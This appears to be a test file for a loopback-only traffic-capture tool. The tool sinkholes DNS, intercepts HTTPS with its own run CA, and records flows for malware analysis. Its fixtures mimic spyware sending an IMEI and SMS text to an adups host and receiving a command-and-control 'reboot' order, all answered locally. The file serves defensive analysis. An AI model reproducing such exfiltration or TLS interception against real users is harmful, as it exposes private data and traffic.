import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { request as httpsRequest } from 'node:https';
import { createRequire } from 'node:module';
import { connect as netConnect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { execa } from 'execa';
import {
  readFlows,
  startCapture,
  writeHar,
  type CaptureSession,
  type ProxyCaptureSession,
  type Flow,
} from '../../src/capture/index.ts';
import { silentLogger } from '../../src/log.ts';

const require = createRequire(import.meta.url);
const harValidator = require('har-validator') as { har(data: unknown): Promise<unknown> };

const C2_COMMAND = '{"cmd":"reboot","delay":5}';

void test('capture intercepts HTTPS by IP + SNI, keeps raw bodies, records failed handshakes and raw tunnels', async (t) => {
  const runDir = await mkdtemp(join(tmpdir(), 'capture-proxy-'));
  t.after(() => rm(runDir, { recursive: true, force: true }));
  const session = await startCapture({
    runDir,
    logger: silentLogger(),
    responders: [
      {
        host: 'rebootv5.adsunflower.com',
        pathPrefix: '/cmd',
        status: 202,
        headers: { 'content-type': 'application/json' },
        body: C2_COMMAND,
      },
    ],
  });
  t.after(() => session.stop());

  const resolver = new Resolver({ timeout: 2000, tries: 1 });
  resolver.setServers([`${session.dns.host}:${session.dns.port}`]);
  const [bigdataIp] = await resolver.resolve4('bigdata.adups.com');
  const [c2Ip] = await resolver.resolve4('rebootv5.adsunflower.com');
  const [rawIp] = await resolver.resolve4('push.example.org');
  assert.deepEqual([bigdataIp, c2Ip, rawIp], ['198.18.0.1', '198.18.0.2', '198.18.0.3']);
  assert.ok(bigdataIp && c2Ip && rawIp);

  await t.test(
    'decrypted HTTPS POST: name in URL, gzip body byte for byte, headers in order',
    async () => {
      const gzipped = gzipSync(Buffer.from('{"imei":"490154203237518","sms":"hello"}'));
      const flowSeen = nextFlow(session, (f) => f.protocol === 'https');
      const tunnel = await openTunnel(session, `${bigdataIp}:443`);
      const clientPort = tunnel.localPort;
      const tls = await startTls(tunnel, 'bigdata.adups.com', session.caCertificatePem);
      const response = await send(
        httpsRequest({
          createConnection: () => tls,
          host: 'bigdata.adups.com',
          port: 443,
          method: 'POST',
          path: '/upload/v2?imei=490154203237518',
          headers: {
            'Content-Type': 'application/octet-stream',
            'Content-Encoding': 'gzip',
            'X-Adups-Trace': 'c07',
          },
        }),
        gzipped,
      );
      assert.equal(response.status, 200);
      assert.equal(response.body, '{"status":"ok"}');

      const flow = await flowSeen;
      assert.equal(flow.destination.host, 'bigdata.adups.com');
      assert.equal(flow.destination.ip, bigdataIp);
      assert.equal(flow.destination.port, 443);
      assert.deepEqual(flow.tls, { sni: 'bigdata.adups.com', decrypted: true });
      assert.deepEqual(flow.client, { ip: '127.0.0.1', port: clientPort });
      assert.ok(flow.request);
      assert.equal(flow.request.method, 'POST');
      assert.equal(flow.request.url, 'https://bigdata.adups.com/upload/v2?imei=490154203237518');
      assert.ok(
        Buffer.from(flow.request.body, 'base64').equals(gzipped),
        'body is the gzip bytes as sent',
      );
      const names = flow.request.headers.map(([name]) => name);
      assert.deepEqual(
        names.filter((n) => ['Content-Type', 'Content-Encoding', 'X-Adups-Trace'].includes(n)),
        ['Content-Type', 'Content-Encoding', 'X-Adups-Trace'],
      );
      assert.ok(
        flow.request.headers.some(
          ([n, v]) => n === 'Host' && /^bigdata\.adups\.com(:443)?$/.test(v),
        ),
        JSON.stringify(flow.request.headers),
      );
      assert.equal(flow.response?.status, 200);
      assert.equal(Buffer.from(flow.response?.body ?? '', 'base64').toString(), '{"status":"ok"}');
    },
  );

  await t.test('a responder answers the C2 host on its path, and only there', async () => {
    const commandFlow = nextFlow(session, (f) => f.request?.url.includes('/cmd/next') === true);
    const command = await send(
      httpRequest({
        host: session.proxy.host,
        port: session.proxy.port,
        path: 'http://rebootv5.adsunflower.com/cmd/next?dev=1',
        headers: { Host: 'rebootv5.adsunflower.com' },
      }),
    );
    assert.equal(command.status, 202);
    assert.equal(command.body, C2_COMMAND);
    const flow = await commandFlow;
    assert.equal(flow.protocol, 'http');
    assert.equal(flow.destination.host, 'rebootv5.adsunflower.com');
    assert.equal(
      flow.destination.ip,
      c2Ip,
      'named destinations get the address the sinkhole gives them',
    );
    assert.equal(Buffer.from(flow.response?.body ?? '', 'base64').toString(), C2_COMMAND);

    const other = await send(
      httpRequest({
        host: session.proxy.host,
        port: session.proxy.port,
        path: 'http://rebootv5.adsunflower.com/status',
        headers: { Host: 'rebootv5.adsunflower.com' },
      }),
    );
    assert.equal(other.status, 200);
    assert.equal(other.body, '{"status":"ok"}');
  });

  await t.test(
    'a client that does not trust the CA leaves an opaque tls flow and no HTTP flow',
    async () => {
      const flowSeen = nextFlow(session, (f) => f.protocol === 'tls');
      const before = session.flows().length;
      const tunnel = await openTunnel(session, `${c2Ip}:443`);
      await assert.rejects(
        startTls(tunnel, 'rebootv5.adsunflower.com', undefined),
        /self[- ]signed|certificate/i,
      );
      const flow = await flowSeen;
      assert.equal(flow.destination.ip, c2Ip);
      assert.equal(flow.destination.port, 443);
      assert.equal(flow.destination.host, 'rebootv5.adsunflower.com');
      assert.deepEqual(flow.tls, { sni: 'rebootv5.adsunflower.com', decrypted: false });
      assert.match(flow.error ?? '', /^tls-handshake:/);
      assert.equal(flow.request, undefined);
      assert.ok(
        flow.raw && Buffer.from(flow.raw, 'base64')[0] === 0x16,
        'raw holds the ClientHello',
      );
      await delay(200);
      const later = session.flows().slice(before);
      assert.deepEqual(
        later.map((f) => f.protocol),
        ['tls'],
        'exactly one flow for the failed handshake',
      );
    },
  );

  await t.test('a tunnel carrying neither TLS nor HTTP is kept whole as a tcp flow', async () => {
    const payload = Buffer.from([0x00, 0x01, 0xfe, 0xff, 0x0a, 0x49, 0x4d, 0x45, 0x49]);
    const flowSeen = nextFlow(session, (f) => f.protocol === 'tcp');
    const tunnel = await openTunnel(session, `${rawIp}:5555`);
    tunnel.write(payload.subarray(0, 4));
    await delay(50);
    tunnel.end(payload.subarray(4));
    const flow = await flowSeen;
    assert.deepEqual(flow.destination, { host: 'push.example.org', ip: rawIp, port: 5555 });
    assert.ok(Buffer.from(flow.raw ?? '', 'base64').equals(payload), 'raw holds every byte sent');
  });

  await t.test(
    'stop flushes flows.jsonl and dns.jsonl; HAR of the flows is valid HAR 1.2',
    async () => {
      // A tunnel still silent at stop (a server-speaks-first protocol) is recorded as a contact.
      const silent = await openTunnel(session, `${rawIp}:7000`);
      silent.on('error', () => undefined);
      await delay(50);
      await session.stop();
      await session.stop();
      const inMemory = session.flows();
      assert.deepEqual(
        inMemory.map((f) => `${f.protocol} ${f.destination.host ?? '?'}`),
        [
          'dns bigdata.adups.com',
          'dns rebootv5.adsunflower.com',
          'dns push.example.org',
          'https bigdata.adups.com',
          'http rebootv5.adsunflower.com',
          'http rebootv5.adsunflower.com',
          'tls rebootv5.adsunflower.com',
          'tcp push.example.org',
          'tcp push.example.org',
        ],
        'one flow per exchange, nothing extra',
      );
      const silentFlow = inMemory.at(-1);
      assert.equal(silentFlow?.destination.port, 7000);
      assert.equal(silentFlow?.raw, '');
      const fromFile = await readFlows(join(runDir, 'flows.jsonl'));
      assert.deepEqual(fromFile, inMemory);
      assert.ok(
        inMemory.some((f) => f.protocol === 'dns' && f.destination.host === 'bigdata.adups.com'),
      );
      const dnsLines = (await readFile(join(runDir, 'dns.jsonl'), 'utf8')).trim().split('\n');
      assert.equal(dnsLines.length, session.dnsQueries().length);

      const harPath = join(runDir, 'flows.har');
      await writeHar(inMemory, harPath);
      const har = JSON.parse(await readFile(harPath, 'utf8')) as {
        log: {
          entries: Array<{
            request: { url: string; postData?: { text: string; encoding?: string } };
          }>;
        };
      };
      await harValidator.har(har);
      const upload = har.log.entries.find((e) =>
        e.request.url.startsWith('https://bigdata.adups.com/'),
      );
      assert.equal(upload?.request.postData?.encoding, 'base64');
      assert.equal(har.log.entries.length, inMemory.filter((f) => f.request).length);
    },
  );

  await t.test('ports are released after stop', async () => {
    await assert.rejects(connectTo(session.proxy.host, session.proxy.port), {
      code: 'ECONNREFUSED',
    });
    const udp = createSocket('udp4');
    await new Promise<void>((resolve, reject) => {
      udp.once('error', reject);
      udp.bind(session.dns.port, session.dns.host, resolve);
    });
    udp.close();
  });
});

void test('the run CA matches openssl: subject_hash_old and a 0600 key', async (t) => {
  const runDir = await mkdtemp(join(tmpdir(), 'capture-ca-'));
  t.after(() => rm(runDir, { recursive: true, force: true }));
  await using session = await startCapture({ runDir, logger: silentLogger(), runId: 'ca-test' });
  const pemPath = join(runDir, 'ca', 'ca.pem');
  assert.equal(await readFile(pemPath, 'utf8'), session.caCertificatePem);
  assert.equal((await stat(join(runDir, 'ca', 'ca.key'))).mode & 0o777, 0o600);
  const openssl = await execa('openssl', ['x509', '-subject_hash_old', '-noout', '-in', pemPath], {
    timeout: 10_000,
    reject: false,
  });
  if (openssl.exitCode !== 0 && /ENOENT/.test(String(openssl.message))) {
    t.skip('openssl is not installed');
    return;
  }
  assert.equal(openssl.exitCode, 0, openssl.stderr);
  assert.match(session.caSubjectHashOld, /^[0-9a-f]{8}$/);
  assert.equal(session.caSubjectHashOld, openssl.stdout.trim());
  const subject = await execa('openssl', ['x509', '-subject', '-noout', '-in', pemPath], {
    timeout: 10_000,
  });
  assert.match(subject.stdout, /canarytrap run ca-test/);
});

void test('capture refuses to listen anywhere but loopback', async () => {
  await assert.rejects(
    startCapture({
      runDir: join(tmpdir(), 'never-created'),
      logger: silentLogger(),
      host: '0.0.0.0',
    }),
    { code: 'capture-host-not-loopback' },
  );
});

function nextFlow(
  session: CaptureSession,
  match: (flow: Flow) => boolean,
  timeoutMs = 5000,
): Promise<Flow> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      unsubscribe();
      reject(new Error(`no matching flow within ${timeoutMs} ms`));
    }, timeoutMs);
    const unsubscribe = session.onFlow((flow) => {
      if (!match(flow)) return;
      clearTimeout(timer);
      unsubscribe();
      resolve(flow);
    });
  });
}

function openTunnel(session: ProxyCaptureSession, authority: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({
      host: session.proxy.host,
      port: session.proxy.port,
      method: 'CONNECT',
      path: authority,
    });
    req.once('connect', (response: IncomingMessage, socket: Socket) => {
      if (response.statusCode === 200) resolve(socket);
      else reject(new Error(`CONNECT answered ${response.statusCode}`));
    });
    req.once('error', reject);
    req.end();
  });
}

function startTls(socket: Socket, servername: string, ca: string | undefined): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const tls = tlsConnect({ socket, servername, ...(ca ? { ca } : {}) });
    tls.once('secureConnect', () => resolve(tls));
    tls.once('error', (error: Error) => {
      socket.destroy();
      reject(error);
    });
  });
}

function send(
  req: ReturnType<typeof httpRequest>,
  body?: Buffer,
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    req.once('response', (response: IncomingMessage) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.once('end', () =>
        resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString() }),
      );
    });
    req.once('error', reject);
    req.end(body);
  });
}

function connectTo(host: string, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = netConnect(port, host);
    socket.once('connect', () => {
      socket.destroy();
      resolve();
    });
    socket.once('error', reject);
  });
}

function delay(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
